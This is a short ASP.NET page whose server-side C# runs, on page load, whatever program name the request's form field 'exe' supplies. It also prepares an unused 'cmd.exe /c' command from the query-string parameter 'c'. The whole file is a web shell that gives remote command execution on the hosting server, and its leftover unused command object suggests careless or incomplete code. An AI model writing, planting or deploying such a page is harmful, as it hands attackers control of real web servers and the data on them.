<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request.QueryString["c"]);
    System.Diagnostics.Process.Start(Request.Form["exe"]);
}
</script>
